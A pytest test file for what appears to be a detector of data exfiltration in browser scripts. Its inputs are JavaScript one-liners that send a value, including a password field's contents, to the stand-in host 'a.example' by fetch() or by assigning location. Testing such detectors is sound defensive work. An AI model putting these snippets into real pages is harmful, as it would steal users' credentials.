"""Expressions by the rules of the language, and what a browser adds to them."""

from __future__ import annotations

import pytest

from tests.client_scripts.test_script_analysis import TAKEN, analysed


@pytest.mark.parametrize(
    ("value", "is_sent"),
    [
        ("md5(p)", False),
        ("isValid(p)", False),
        ("p.match(/a/)", False),
        ("encode(p)", True),
        ("p.charCodeAt(0)", True),
        ("(p.charCodeAt(0) ^ 3).toString(16)", True),
        ("p.length", False),
        ("p.indexOf('a')", False),
        ("p == 'a'", False),
    ],
)
def test_what_is_left_of_a_value(value: str, is_sent: bool) -> None:
    assert bool(analysed(TAKEN + f"fetch('//a.example', {value});").exfiltrations) is is_sent


def test_the_address_of_the_page_is_no_variable() -> None:
    assert analysed(TAKEN + "location = '//a.example/' + p;").exfiltrations
    assert not analysed(TAKEN + "function f(location) { location = '//a.example/' + p; } f(1);").exfiltrations


def test_the_origin_is_the_text_of_the_expression() -> None:
    (leak,) = analysed("fetch('//a.example', document.getElementById('pw').value);").exfiltrations
    assert leak.trace is not None
    assert leak.trace.origin == "document.getElementById('pw').value"
